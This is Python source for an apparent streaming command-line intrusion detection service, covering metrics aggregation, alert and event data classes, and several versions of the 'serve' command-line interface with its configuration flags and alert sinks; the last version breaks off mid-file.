        """Account one completed hot model swap."""
        self.swaps += 1
        self.last_swap_ms = float(duration_ms)
        self.total_swap_ms += float(duration_ms)

    def record_autoscale(self, direction: int) -> None:
        """Account one autoscaler check (*direction*: -1 down, 0 hold, +1 up)."""
        self.autoscale_checks += 1
        if direction > 0:
            self.autoscale_ups += 1
        elif direction < 0:
            self.autoscale_downs += 1

    def sync_cache(self, cache) -> None:
        """Mirror a :class:`~repro.serving.cache.ScoreCache`'s generation
        and admission counters into the metrics bundle (called by the
        shard after each event, like ``session_evictions``)."""
        self.cache_gen_hits = cache.generation_hits
        self.cache_gen_misses = cache.generation_misses
        self.cache_admission_rejections = cache.admission_rejections

    # -- merging (per-shard -> fleet view) ---------------------------------

    def merge(self, other: "ServingMetrics") -> "ServingMetrics":
        """Fold *other*'s figures into this bundle (returns ``self``).

        Counters sum; latency reservoirs combine with an even subsample
        when they overflow this bundle's reservoir, so the merged
        percentiles represent every source proportionally (a plain
        ``extend`` onto the bounded deque would evict earlier shards'
        samples and report only the last shard merged); active time
        combines as a **maximum** — shards run concurrently on one
        loop, so their wall clocks overlap rather than add.
        ``last_swap_ms`` and the batch-score EWMA take the maximum
        (most recent / most loaded shard).
        """
        for attr in self._MERGE_SUM:
            setattr(self, attr, getattr(self, attr) + getattr(other, attr))
        self.last_swap_ms = max(self.last_swap_ms, other.last_swap_ms)
        self.batch_score_ewma_ms = max(self.batch_score_ewma_ms, other.batch_score_ewma_ms)
        self.flush_reasons.update(other.flush_reasons)
        maxlen = self._latencies_ms.maxlen or 1
        combined = list(self._latencies_ms) + list(other._latencies_ms)
        if len(combined) > maxlen:
            step = len(combined) / maxlen
            combined = [combined[int(i * step)] for i in range(maxlen)]
        self._latencies_ms = deque(combined, maxlen=maxlen)
        self._accumulated_seconds = max(self._accumulated_seconds, other.elapsed_seconds)
        return self

    @classmethod
    def merged(cls, bundles: Iterable["ServingMetrics"]) -> "ServingMetrics":
        """A fresh bundle holding the fleet-wide view of *bundles*.

        The result is a snapshot: it does not stay live as the source
        bundles keep counting.  ``backend`` is taken from the first
        bundle (shards share one backend) and ``shards`` counts the
        merged sources.
        """
        bundles = list(bundles)
        out = cls()
        if bundles:
            out.backend = bundles[0].backend
        out.shards = max(len(bundles), 1)
        for bundle in bundles:
            out.merge(bundle)
        return out

    # -- wire form (node -> fleet control plane) ----------------------------

    def to_dict(self) -> dict:
        """Lossless, JSON-serialisable wire form of this bundle.

        Unlike :meth:`snapshot` (a rounded, human-oriented report), this
        form carries everything :meth:`merge` reads — every summed
        counter, the EWMA and swap figures, the flush-reason histogram,
        and the **full latency reservoir** — so a bundle shipped across
        a process boundary merges exactly like the original object:
        ``merge(from_dict(to_dict(a)), b)`` equals ``merge(a, b)``.
        Elapsed time is captured as a snapshot (the clock does not keep
        running on the receiving side).
        """
        return {
            **{attr: getattr(self, attr) for attr in self._MERGE_SUM},
            "last_swap_ms": self.last_swap_ms,
            "batch_score_ewma_ms": self.batch_score_ewma_ms,
            "backend": self.backend,
            "shards": self.shards,
            "flush_reasons": dict(self.flush_reasons),
            "latency_reservoir": self._latencies_ms.maxlen,
            "latencies_ms": list(self._latencies_ms),
            "elapsed_seconds": self.elapsed_seconds,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "ServingMetrics":
        """Rebuild a bundle from its :meth:`to_dict` wire form.

        Unknown keys are ignored (a newer node may ship counters an
        older control plane does not know), missing ones default to
        zero — so mixed-version fleets still merge.
        """
        if not isinstance(data, dict):
            raise TypeError(f"metrics wire form must be a dict (got {type(data).__name__})")
        reservoir = int(data.get("latency_reservoir") or 10_000)
        out = cls(latency_reservoir=reservoir)
        float_attrs = {"total_swap_ms", "model_ms_total"}
        for attr in cls._MERGE_SUM:
            value = data.get(attr, 0)
            setattr(out, attr, float(value) if attr in float_attrs else int(value))
        out.last_swap_ms = float(data.get("last_swap_ms", 0.0))
        out.batch_score_ewma_ms = float(data.get("batch_score_ewma_ms", 0.0))
        out.backend = str(data.get("backend", out.backend))
        out.shards = int(data.get("shards", 1))
        out.flush_reasons = Counter(
            {str(reason): int(count) for reason, count in (data.get("flush_reasons") or {}).items()}
        )
        out._latencies_ms.extend(float(value) for value in data.get("latencies_ms", ()))
        out._accumulated_seconds = float(data.get("elapsed_seconds", 0.0))
        return out

    # -- derived figures ---------------------------------------------------

    def latency_percentile(self, p: float) -> float:
        """The *p*-th percentile of recent per-event latency (ms)."""
        if not self._latencies_ms:
            return 0.0
        return float(np.percentile(np.asarray(self._latencies_ms), p))

    @property
    def cache_hit_rate(self) -> float:
        """Hit fraction among scored (non-dropped) events."""
        scored = self.cache_hits + self.cache_misses
        return self.cache_hits / scored if scored else 0.0

    @property
    def cache_generation_hit_rate(self) -> float:
        """Hit fraction since the last model swap (the autoscaler's signal)."""
        scored = self.cache_gen_hits + self.cache_gen_misses
        return self.cache_gen_hits / scored if scored else 0.0

    @property
    def mean_batch_size(self) -> float:
        """Average events per micro-batch flush."""
        return self.batched_events / self.batches if self.batches else 0.0

    @property
    def model_ms_avg(self) -> float:
        """Average model-forward time per scored batch (ms)."""
        return self.model_ms_total / self.model_batches if self.model_batches else 0.0

    @property
    def events_per_second(self) -> float:
        """Throughput over :attr:`elapsed_seconds`."""
        elapsed = self.elapsed_seconds
        return self.events_total / elapsed if elapsed > 0 else 0.0

    def snapshot(self) -> dict:
        """All figures as a plain dict (stable keys, JSON-serialisable)."""
        return {
            "backend": self.backend,
            "shards": self.shards,
            "events_total": self.events_total,
            "dropped": self.dropped,
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "cache_hit_rate": round(self.cache_hit_rate, 4),
            "cache_generation_hit_rate": round(self.cache_generation_hit_rate, 4),
            "cache_admission_rejections": self.cache_admission_rejections,
            "canonicalized": self.canonicalized,
            "canonicalize_failures": self.canonicalize_failures,
            "canonicalize_truncated": self.canonicalize_truncated,
            "canonicalize_decoded": self.canonicalize_decoded,
            "alerts": self.alerts,
            "escalations": self.escalations,
            "sequence_scored": self.sequence_scored,
            "sequence_escalations": self.sequence_escalations,
            "session_evictions": self.session_evictions,
            "batches": self.batches,
            "mean_batch_size": round(self.mean_batch_size, 2),
            "columnar_batches": self.columnar_batches,
            "compiled_batches": self.compiled_batches,
            "model_ms_total": round(self.model_ms_total, 3),
            "model_ms_avg": round(self.model_ms_avg, 3),
            "unique_scored": self.unique_scored,
            "scoring_errors": self.scoring_errors,
            "swaps": self.swaps,
            "last_swap_ms": round(self.last_swap_ms, 3),
            "autoscale_checks": self.autoscale_checks,
            "autoscale_ups": self.autoscale_ups,
            "autoscale_downs": self.autoscale_downs,
            "flush_reasons": dict(self.flush_reasons),
            "latency_p50_ms": round(self.latency_percentile(50), 3),
            "latency_p95_ms": round(self.latency_percentile(95), 3),
            "latency_p99_ms": round(self.latency_percentile(99), 3),
            "elapsed_seconds": round(self.elapsed_seconds, 3),
            "events_per_second": round(self.events_per_second, 1),
        }

    def render(self) -> str:
        """Human-readable report (printed by ``repro-ids serve``)."""
        snap = self.snapshot()
        lines = ["serving metrics", "---------------"]
        for key, value in snap.items():
            lines.append(f"{key:>28}: {value}")
        return "\n".join(lines)
