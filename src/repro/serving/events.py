"""Data model of the streaming detection service.

The serving layer deals in *events* — one command line observed on one
host at one time — rather than the batch-of-lines view of the offline
pipeline.  Confirmed detections become :class:`DetectionAlert` records
with an explicit severity/status lifecycle (motivated by the
alert-to-intelligence framing of Sun et al., 2025: downstream consumers
need structured alerts, not bare scores).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass


class Severity(enum.Enum):
    """How far above the calibrated threshold a detection landed."""

    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"
    CRITICAL = "critical"

    @classmethod
    def from_score(cls, score: float, threshold: float) -> "Severity":
        """Band the score's margin over *threshold* into a severity.

        The interval ``[threshold, 1]`` is split into four equal bands;
        scores below the threshold map to ``LOW`` (such alerts only
        arise through escalation, never from a raw verdict).
        """
        headroom = 1.0 - threshold
        if headroom <= 0:
            return cls.CRITICAL if score >= threshold else cls.LOW
        fraction = (score - threshold) / headroom
        if fraction < 0.25:
            return cls.LOW
        if fraction < 0.5:
            return cls.MEDIUM
        if fraction < 0.75:
            return cls.HIGH
        return cls.CRITICAL


class AlertStatus(enum.Enum):
    """Lifecycle state of an alert as it moves through triage."""

    OPEN = "open"
    ESCALATED = "escalated"
    ACKNOWLEDGED = "acknowledged"
    CLOSED = "closed"


@dataclass(frozen=True)
class CommandEvent:
    """One command-line observation submitted to the server.

    Attributes
    ----------
    line:
        The raw (un-normalized) command line.
    host:
        Origin host identifier; drives per-host session aggregation.
    timestamp:
        Event time in seconds (any monotonic-enough clock; the session
        aggregator only compares timestamps to each other).  ``None``
        means "stamp with wall time on submission".
    """

    line: str
    host: str = "-"
    timestamp: float | None = None


@dataclass(frozen=True)
class DetectionAlert:
    """A confirmed detection, ready for fan-out to alert sinks.

    When the server runs a sequence escalation mode, flagged events also
    carry the composed per-host context window (``context``, the recent
    command lines joined with ``;``) and its second-stage ``sequence_score``
    — so a sink can explain *why* a host escalated, not just that it did.
    """

    alert_id: int
    event_id: int
    host: str
    line: str
    score: float
    severity: Severity
    status: AlertStatus
    timestamp: float
    context: str | None = None
    sequence_score: float | None = None

    def to_json(self) -> dict:
        """JSON-serialisable form (used by the JSONL sink)."""
        payload = {
            "alert_id": self.alert_id,
            "event_id": self.event_id,
            "host": self.host,
            "line": self.line,
            "score": round(self.score, 6),
            "severity": self.severity.value,
            "status": self.status.value,
            "timestamp": self.timestamp,
        }
        if self.context is not None:
            payload["context"] = self.context
        if self.sequence_score is not None:
            payload["sequence_score"] = round(self.sequence_score, 6)
        return payload


@dataclass(frozen=True)
class DetectionResult:
    """The server's answer for one submitted event.

    Mirrors :class:`repro.ids.Verdict` but adds the serving-side
    bookkeeping a caller needs to reason about the streaming path:
    whether the score came from the cache, how long the event spent in
    the server, and which model generation produced the score (bumped
    by every hot swap — see :meth:`DetectionServer.swap_model`).
    """

    event_id: int
    host: str
    raw_line: str
    line: str
    score: float
    is_intrusion: bool
    dropped: bool
    cache_hit: bool
    latency_ms: float
    alert: DetectionAlert | None = None
    generation: int = 0
    #: Second-stage score of the host's composed command window
    #: (``None`` unless the event was flagged under a sequence mode).
    sequence_score: float | None = None
