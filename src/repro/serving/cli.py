"""``repro-ids serve`` — stream a file or stdin through the detection server.

The deployment is described by a declarative config
(:class:`~repro.serving.config.ServingConfig`), resolved in layers:

1. ``--config serve.toml`` (TOML or JSON file), else the config
   recorded in the ``--bundle`` metadata, else built-in defaults;
2. individual flags (``--max-batch``, ``--workers``, ``--cache-ttl``,
   ...) override the corresponding config fields;
3. ``--sink URI`` appends sinks (``ring://4096``,
   ``jsonl:///var/alerts.jsonl``, ``webhook://siem:8080/alerts``,
   ``tcp://collector:9000``); ``--alerts-out FILE`` is shorthand for a
   ``jsonl://`` sink.

``--print-config`` emits the fully-resolved config as JSON and exits —
the output parses back to an equal config (CI smoke-tests this), so a
resolved deployment can be frozen into a file.

Input is one event per line: either a bare command line, or a JSON
object ``{"line": ..., "host": ..., "timestamp": ...}`` (``host`` and
``timestamp`` optional).  A file input is read to EOF and then streamed
through the server by concurrent producers; ``--input -`` **follows**
stdin live, submitting each event as it arrives.  Alerts print to
stdout as they are confirmed and metrics + per-sink delivery stats
print at the end.

.. code-block:: console

   $ repro-ids serve --config examples/serve.toml --bundle ./bundle
   $ repro-ids serve --input telemetry.log --sink webhook://siem:8080/alerts
   $ repro-ids serve --config serve.toml --workers 4 --print-config
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import sys
import tempfile
import urllib.parse
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import TextIO

from repro.errors import ConfigError, ReproError
from repro.serving.cache import ADMISSION_POLICIES
from repro.serving.config import (
    BACKEND_KINDS,
    SESSION_MODES,
    ServingConfig,
    SinkSpec,
    load_recorded_config,
)
from repro.serving.events import CommandEvent
from repro.serving.server import DetectionServer, serve_stream, tail_stream
from repro.serving.sinks import CallbackSink

BACKEND_CHOICES = BACKEND_KINDS


def build_serve_parser() -> argparse.ArgumentParser:
    """Argument definition for the ``serve`` subcommand.

    Tunable flags default to ``None`` so the resolver can tell "not
    given" (keep the config file's value) from an explicit override.
    """
    parser = argparse.ArgumentParser(
        prog="repro-ids serve",
        description="Stream command-line events through the detection server.",
    )
    parser.add_argument(
        "--config",
        default=None,
        metavar="FILE",
        help="deployment config file (.toml or .json); individual flags "
        "override its values",
    )
    parser.add_argument(
        "--print-config",
        action="store_true",
        help="print the fully-resolved config as JSON and exit",
    )
    parser.add_argument(
        "--input",
        default="-",
        help="event file, one event per line ('-' = follow stdin live; default). "
        "Files are read to EOF before serving; stdin is tailed, submitting "
        "events as they arrive from an unbounded pipe",
    )
    parser.add_argument(
        "--bundle",
        default=None,
        help="saved IntrusionDetectionService bundle to serve "
        "(default: train a small demo service first)",
    )
    parser.add_argument(
        "--workers",
        type=int,
        default=None,
        help="parallel scoring workers each micro-batch is sharded across "
        "(default 1)",
    )
    parser.add_argument(
        "--backend",
        choices=BACKEND_CHOICES,
        default=None,
        help="where the LM forward pass runs: inline (event loop), threaded "
        "(thread pool), process (worker processes, each with its own "
        "deserialized bundle). auto = inline for 1 worker, process otherwise",
    )
    parser.add_argument(
        "--compiled",
        action=argparse.BooleanOptionalAction,
        default=None,
        help="compile the model into a graph-free inference plan for the "
        "scoring hot path (fused QKV, preallocated scratch, no autograd "
        "tape); falls back to the Tensor path automatically when the "
        "model cannot be compiled (default on)",
    )
    parser.add_argument(
        "--precision",
        choices=("float64", "float32"),
        default=None,
        help="compiled-plan arithmetic: float64 scores bitwise-identically "
        "to the Tensor path, float32 trades ~1e-6 score tolerance for "
        "large throughput gains (default float64)",
    )
    parser.add_argument(
        "--max-batch", type=int, default=None, help="micro-batch flush size (default 32)"
    )
    parser.add_argument(
        "--max-latency-ms",
        type=float,
        default=None,
        help="micro-batch flush deadline (default 25)",
    )
    parser.add_argument(
        "--cache-size", type=int, default=None, help="LRU score-cache capacity (default 4096)"
    )
    parser.add_argument(
        "--cache-ttl",
        type=float,
        default=None,
        metavar="SECONDS",
        help="expire cached scores after this many seconds (default: no TTL)",
    )
    parser.add_argument(
        "--cache-admission",
        choices=ADMISSION_POLICIES,
        default=None,
        help="score-cache admission policy: lru admits every line, tinylfu "
        "gates inserts with a frequency sketch so Zipf-tail one-offs cannot "
        "displace hot entries (default lru)",
    )
    parser.add_argument(
        "--canonicalize",
        action=argparse.BooleanOptionalAction,
        default=None,
        help="rewrite each normalized line to canonical shell form "
        "(dequote, $IFS tricks, env/command/eval wrappers, base64 "
        "decode-exec pipelines) before the score cache, so evasion "
        "variants of one command share a cache entry (default off)",
    )
    parser.add_argument(
        "--shards",
        type=int,
        default=None,
        help="shard runtimes to consistent-hash hosts across; each owns its "
        "own batcher, cache, and session table (default 1)",
    )
    parser.add_argument(
        "--autoscale",
        action=argparse.BooleanOptionalAction,
        default=None,
        help="resize the scoring-worker pool from observed backlog, batch "
        "latency, and cache hit rate (needs a threaded/process backend; "
        "backend 'auto' resolves to threaded)",
    )
    parser.add_argument(
        "--autoscale-min",
        type=int,
        default=None,
        metavar="N",
        help="autoscaler floor for the worker pool (default 1)",
    )
    parser.add_argument(
        "--autoscale-max",
        type=int,
        default=None,
        metavar="N",
        help="autoscaler ceiling for the worker pool (default 0 = cpu count)",
    )
    parser.add_argument(
        "--concurrency",
        type=int,
        default=None,
        help="in-process producer tasks feeding the server (default 8)",
    )
    parser.add_argument(
        "--sink",
        action="append",
        default=None,
        metavar="URI",
        help="add an alert sink by URI (ring://N, jsonl://PATH, "
        "webhook://HOST:PORT/PATH, tcp://HOST:PORT); repeatable",
    )
    parser.add_argument(
        "--alerts-out",
        default=None,
        metavar="FILE",
        help="also append alerts to this JSONL file (shorthand for a jsonl:// sink)",
    )
    parser.add_argument(
        "--window-seconds",
        type=float,
        default=None,
        help="per-host escalation window (default 300)",
    )
    parser.add_argument(
        "--escalate-after",
        type=int,
        default=None,
        help="alerts in window that escalate a host (default 5)",
    )
    parser.add_argument(
        "--session-mode",
        choices=SESSION_MODES,
        default=None,
        help="escalation policy: count (alert rate), sequence (score the "
        "host's composed command window with the bundle's multi-line head), "
        "or hybrid (either trigger; default count)",
    )
    parser.add_argument(
        "--sequence-threshold",
        type=float,
        default=None,
        help="sequence score at which a host escalates (default 0.5)",
    )
    parser.add_argument(
        "--context-window",
        type=int,
        default=None,
        help="lines per composed per-host context window (default 3)",
    )
    parser.add_argument(
        "--context-max-gap",
        type=float,
        default=None,
        metavar="SECONDS",
        help="maximum age of a context line relative to the flagged line "
        "(default 180)",
    )
    parser.add_argument(
        "--max-hosts",
        type=int,
        default=None,
        help="tracked-host bound; least recently seen hosts are evicted "
        "beyond it (default 100000)",
    )
    parser.add_argument(
        "--limit", type=int, default=None, help="stop after this many input events"
    )
    parser.add_argument(
        "--quiet", action="store_true", help="suppress per-alert output (metrics only)"
    )
    return parser


def resolve_config(args: argparse.Namespace) -> ServingConfig:
    """Layer the resolved :class:`ServingConfig` for this invocation.

    Base: ``--config`` file if given, else the config recorded in the
    ``--bundle`` metadata, else defaults.  Explicitly-passed flags
    override individual fields; ``--sink``/``--alerts-out`` append sink
    specs.  Raises :class:`~repro.errors.ConfigError` with an
    actionable message for anything invalid.
    """
    if args.config is not None:
        base = ServingConfig.from_file(args.config)
    elif args.bundle is not None:
        base = load_recorded_config(args.bundle) or ServingConfig()
    else:
        base = ServingConfig()

    def override(node, **candidates):
        changes = {key: value for key, value in candidates.items() if value is not None}
        return dataclasses.replace(node, **changes) if changes else node

    sinks = list(base.sinks)
    for uri in args.sink or []:
        sinks.append(SinkSpec(uri=uri))
    if args.alerts_out is not None:
        # percent-quote so path characters special to URIs ('#', '?',
        # '%', spaces) survive the round-trip into jsonl://
        quoted = urllib.parse.quote(args.alerts_out)
        sinks.append(SinkSpec(uri=f"jsonl://{quoted}", name="alerts-out"))

    return dataclasses.replace(
        base,
        batch=override(
            base.batch, max_batch=args.max_batch, max_latency_ms=args.max_latency_ms
        ),
        cache=override(
            base.cache,
            size=args.cache_size,
            ttl_seconds=args.cache_ttl,
            admission=args.cache_admission,
        ),
        backend=override(
            base.backend,
            kind=args.backend,
            workers=args.workers,
            compiled=args.compiled,
            precision=args.precision,
        ),
        canonicalize=override(base.canonicalize, enabled=args.canonicalize),
        shards=override(base.shards, count=args.shards),
        autoscale=override(
            base.autoscale,
            enabled=args.autoscale,
            min_workers=args.autoscale_min,
            max_workers=args.autoscale_max,
        ),
        session=override(
            base.session,
            window_seconds=args.window_seconds,
            escalation_threshold=args.escalate_after,
            mode=args.session_mode,
            sequence_threshold=args.sequence_threshold,
            context_window=args.context_window,
            context_max_gap_seconds=args.context_max_gap,
            max_hosts=args.max_hosts,
        ),
        sinks=tuple(sinks),
        concurrency=args.concurrency if args.concurrency is not None else base.concurrency,
    )


def parse_event(text: str) -> CommandEvent | None:
    """One input line → event (``None`` for blank lines).

    JSON-object lines carry explicit host/timestamp; anything else is a
    bare command line from an anonymous host.
    """
    text = text.rstrip("\n")
    if not text.strip():
        return None
    if text.lstrip().startswith("{"):
        try:
            record = json.loads(text)
        except json.JSONDecodeError:
            record = None
        if isinstance(record, dict) and "line" in record:
            try:
                timestamp = float(record["timestamp"])
            except (KeyError, TypeError, ValueError):
                timestamp = None
            return CommandEvent(
                line=str(record["line"]),
                host=str(record.get("host", "-")),
                timestamp=timestamp,
            )
    return CommandEvent(line=text)


def read_events(stream: TextIO, limit: int | None = None) -> Iterator[CommandEvent]:
    """Parse events from *stream*, skipping blanks, up to *limit*."""
    if limit is not None and limit <= 0:
        return
    count = 0
    for raw in stream:
        event = parse_event(raw)
        if event is None:
            continue
        yield event
        count += 1
        if limit is not None and count >= limit:
            return


def serve_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    """Entry point for ``repro-ids serve``; returns a process exit code."""
    out = stdout or sys.stdout
    args = build_serve_parser().parse_args(list(argv) if argv is not None else None)

    # resolve the deployment before anything slow: config mistakes must
    # fail fast with the offending key, not after a model load
    try:
        config = resolve_config(args)
    except ConfigError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    if args.print_config:
        print(config.to_json(), file=out)
        return 0

    # read file input before building the (possibly slow-to-train)
    # service, so input mistakes fail fast and cleanly; stdin is tailed
    # live later instead
    events: list[CommandEvent] | None = None
    if args.input != "-":
        try:
            with open(args.input, encoding="utf-8") as handle:
                events = list(read_events(handle, args.limit))
        except OSError as exc:
            print(f"error: cannot read --input {args.input}: {exc}", file=sys.stderr)
            return 2

    if args.bundle is not None:
        from repro.ids.pipeline import IntrusionDetectionService

        try:
            service = IntrusionDetectionService.load(args.bundle)
        except ReproError as exc:
            print(f"error: cannot load --bundle {args.bundle}: {exc}", file=sys.stderr)
            return 2
    else:
        from repro.serving.demo import build_demo_service

        print("no --bundle given; training a small demo service ...", file=out)
        try:
            service = build_demo_service()
        except ReproError as exc:
            print(f"error: demo service training failed: {exc}", file=sys.stderr)
            return 2

    # the process backend forks workers that deserialize a bundle from
    # disk; a freshly-trained demo service has none, so save one to a
    # temporary directory for the duration of the run
    tmp_bundle = None
    if config.backend.resolved_kind == "process" and service.source_dir is None:
        tmp_bundle = tempfile.TemporaryDirectory(prefix="repro-serve-bundle-")
        service.save(tmp_bundle.name)
        service.source_dir = Path(tmp_bundle.name)

    try:
        server = DetectionServer.from_config(service, config)
    except ConfigError as exc:
        if tmp_bundle is not None:
            tmp_bundle.cleanup()
        print(f"error: {exc}", file=sys.stderr)
        return 2

    # CLI convenience on top of the configured sinks: per-alert console
    # output unless --quiet
    if not args.quiet:

        def print_alert(alert):
            sequence = (
                f" seq={alert.sequence_score:.3f}" if alert.sequence_score is not None else ""
            )
            print(
                f"ALERT {alert.severity.value:>8} {alert.status.value:>9} "
                f"host={alert.host} score={alert.score:.3f}{sequence} {alert.line}",
                file=out,
            )

        server.sinks.add(CallbackSink(print_alert), name="cli-console")

    try:
        if events is None:
            results, server = tail_stream(
                service,
                sys.stdin,
                concurrency=config.concurrency,
                limit=args.limit,
                parse=parse_event,
                server=server,
            )
        else:
            results, server = serve_stream(
                service, events, concurrency=config.concurrency, server=server
            )
    finally:
        if tmp_bundle is not None:
            tmp_bundle.cleanup()

    escalated = server.sessions.escalated_hosts()
    if escalated:
        print(f"escalated hosts: {', '.join(sorted(escalated))}", file=out)
    print(f"\nprocessed {len(results)} events", file=out)
    print(server.metrics.render(), file=out)
    print(server.sinks.render(), file=out)
    return 0
