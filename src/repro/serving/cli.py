"""``repro-ids serve`` — stream a file or stdin through the detection server.

Input is one event per line: either a bare command line, or a JSON
object ``{"line": ..., "host": ..., "timestamp": ...}`` (``host`` and
``timestamp`` optional).  The input is read to EOF, then streamed
through the server by concurrent producers; alerts print to stdout as
they are confirmed and a metrics report prints at the end.  For an
unbounded pipe, bound the read with ``--limit`` (a true follow/tail
mode is a ROADMAP follow-up).

.. code-block:: console

   $ repro-ids serve --input telemetry.log
   $ repro-ids serve --bundle ./bundle --input - --alerts-out alerts.jsonl
"""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Iterable, Iterator
from typing import TextIO

from repro.errors import ReproError
from repro.serving.cache import ScoreCache
from repro.serving.events import CommandEvent
from repro.serving.microbatch import MicroBatcher
from repro.serving.server import serve_stream
from repro.serving.sessions import SessionAggregator
from repro.serving.sinks import AlertSink, CallbackSink, JsonlSink, RingBufferSink


def build_serve_parser() -> argparse.ArgumentParser:
    """Argument definition for the ``serve`` subcommand."""
    parser = argparse.ArgumentParser(
        prog="repro-ids serve",
        description="Stream command-line events through the detection server.",
    )
    parser.add_argument(
        "--input",
        default="-",
        help="event file, one event per line ('-' = stdin; default). The stream "
        "is read to EOF before serving starts — pair '-' with --limit when "
        "piping from an unbounded source",
    )
    parser.add_argument(
        "--bundle",
        default=None,
        help="saved IntrusionDetectionService bundle to serve "
        "(default: train a small demo service first)",
    )
    parser.add_argument("--max-batch", type=int, default=32, help="micro-batch flush size")
    parser.add_argument(
        "--max-latency-ms", type=float, default=25.0, help="micro-batch flush deadline"
    )
    parser.add_argument("--cache-size", type=int, default=4096, help="LRU score-cache capacity")
    parser.add_argument(
        "--concurrency", type=int, default=8, help="in-process producer tasks feeding the server"
    )
    parser.add_argument(
        "--alerts-out", default=None, help="also append alerts to this JSONL file"
    )
    parser.add_argument(
        "--window-seconds", type=float, default=300.0, help="per-host escalation window"
    )
    parser.add_argument(
        "--escalate-after", type=int, default=5, help="alerts in window that escalate a host"
    )
    parser.add_argument(
        "--limit", type=int, default=None, help="stop after this many input events"
    )
    parser.add_argument(
        "--quiet", action="store_true", help="suppress per-alert output (metrics only)"
    )
    return parser


def parse_event(text: str) -> CommandEvent | None:
    """One input line → event (``None`` for blank lines).

    JSON-object lines carry explicit host/timestamp; anything else is a
    bare command line from an anonymous host.
    """
    text = text.rstrip("\n")
    if not text.strip():
        return None
    if text.lstrip().startswith("{"):
        try:
            record = json.loads(text)
        except json.JSONDecodeError:
            record = None
        if isinstance(record, dict) and "line" in record:
            try:
                timestamp = float(record["timestamp"])
            except (KeyError, TypeError, ValueError):
                timestamp = None
            return CommandEvent(
                line=str(record["line"]),
                host=str(record.get("host", "-")),
                timestamp=timestamp,
            )
    return CommandEvent(line=text)


def read_events(stream: TextIO, limit: int | None = None) -> Iterator[CommandEvent]:
    """Parse events from *stream*, skipping blanks, up to *limit*."""
    if limit is not None and limit <= 0:
        return
    count = 0
    for raw in stream:
        event = parse_event(raw)
        if event is None:
            continue
        yield event
        count += 1
        if limit is not None and count >= limit:
            return


def serve_main(argv: Iterable[str] | None = None, stdout: TextIO | None = None) -> int:
    """Entry point for ``repro-ids serve``; returns a process exit code."""
    out = stdout or sys.stdout
    args = build_serve_parser().parse_args(list(argv) if argv is not None else None)

    # read the stream before building the (possibly slow-to-train)
    # service, so input mistakes fail fast and cleanly
    try:
        if args.input == "-":
            events = list(read_events(sys.stdin, args.limit))
        else:
            with open(args.input, encoding="utf-8") as handle:
                events = list(read_events(handle, args.limit))
    except OSError as exc:
        print(f"error: cannot read --input {args.input}: {exc}", file=sys.stderr)
        return 2

    # validate serving knobs with the real constructors before the
    # (possibly slow) service build
    try:
        MicroBatcher(
            lambda items: items, max_batch=args.max_batch, max_latency_ms=args.max_latency_ms
        )
        ScoreCache(args.cache_size)
        SessionAggregator(
            window_seconds=args.window_seconds, escalation_threshold=args.escalate_after
        )
        if args.concurrency < 1:
            raise ValueError("concurrency must be >= 1")
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    if args.bundle is not None:
        from repro.ids.pipeline import IntrusionDetectionService

        try:
            service = IntrusionDetectionService.load(args.bundle)
        except ReproError as exc:
            print(f"error: cannot load --bundle {args.bundle}: {exc}", file=sys.stderr)
            return 2
    else:
        from repro.serving.demo import build_demo_service

        print("no --bundle given; training a small demo service ...", file=out)
        try:
            service = build_demo_service()
        except ReproError as exc:
            print(f"error: demo service training failed: {exc}", file=sys.stderr)
            return 2

    sinks: list[AlertSink] = [RingBufferSink(capacity=4096)]
    if args.alerts_out is not None:
        sinks.append(JsonlSink(args.alerts_out))
    if not args.quiet:
        sinks.append(
            CallbackSink(
                lambda alert: print(
                    f"ALERT {alert.severity.value:>8} {alert.status.value:>9} "
                    f"host={alert.host} score={alert.score:.3f} {alert.line}",
                    file=out,
                )
            )
        )

    results, server = serve_stream(
        service,
        events,
        concurrency=args.concurrency,
        max_batch=args.max_batch,
        max_latency_ms=args.max_latency_ms,
        cache_size=args.cache_size,
        sinks=sinks,
        session_window_seconds=args.window_seconds,
        escalation_threshold=args.escalate_after,
    )

    escalated = server.sessions.escalated_hosts()
    if escalated:
        print(f"escalated hosts: {', '.join(sorted(escalated))}", file=out)
    print(f"\nprocessed {len(results)} events", file=out)
    print(server.metrics.render(), file=out)
    return 0
