"""``repro-ids serve`` — stream a file or stdin through the detection server.

Input is one event per line: either a bare command line, or a JSON
object ``{"line": ..., "host": ..., "timestamp": ...}`` (``host`` and
``timestamp`` optional).  A file input is read to EOF and then streamed
through the server by concurrent producers; ``--input -`` **follows**
stdin live, submitting each event as it arrives — so an unbounded pipe
(``tail -f auth.log | repro-ids serve``) is served continuously instead
of buffered to EOF.  Alerts print to stdout as they are confirmed and a
metrics report prints at the end.

``--workers N`` shards each micro-batch across N scoring workers
(``--backend process`` forks worker processes that each deserialize the
service bundle; ``--backend threaded`` shares one service across a
thread pool).

.. code-block:: console

   $ repro-ids serve --input telemetry.log
   $ repro-ids serve --bundle ./bundle --workers 4 --input - --alerts-out alerts.jsonl
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
from collections.abc import Iterable, Iterator
from typing import TextIO

from repro.errors import ReproError
from repro.serving.backends import InlineBackend, ProcessPoolBackend, ThreadedBackend
from repro.serving.cache import ScoreCache
from repro.serving.events import CommandEvent
from repro.serving.microbatch import MicroBatcher
from repro.serving.server import DetectionServer, serve_stream, tail_stream
from repro.serving.sessions import SessionAggregator
from repro.serving.sinks import AlertSink, CallbackSink, JsonlSink, RingBufferSink

BACKEND_CHOICES = ("auto", "inline", "threaded", "process")


def build_serve_parser() -> argparse.ArgumentParser:
    """Argument definition for the ``serve`` subcommand."""
    parser = argparse.ArgumentParser(
        prog="repro-ids serve",
        description="Stream command-line events through the detection server.",
    )
    parser.add_argument(
        "--input",
        default="-",
        help="event file, one event per line ('-' = follow stdin live; default). "
        "Files are read to EOF before serving; stdin is tailed, submitting "
        "events as they arrive from an unbounded pipe",
    )
    parser.add_argument(
        "--bundle",
        default=None,
        help="saved IntrusionDetectionService bundle to serve "
        "(default: train a small demo service first)",
    )
    parser.add_argument(
        "--workers",
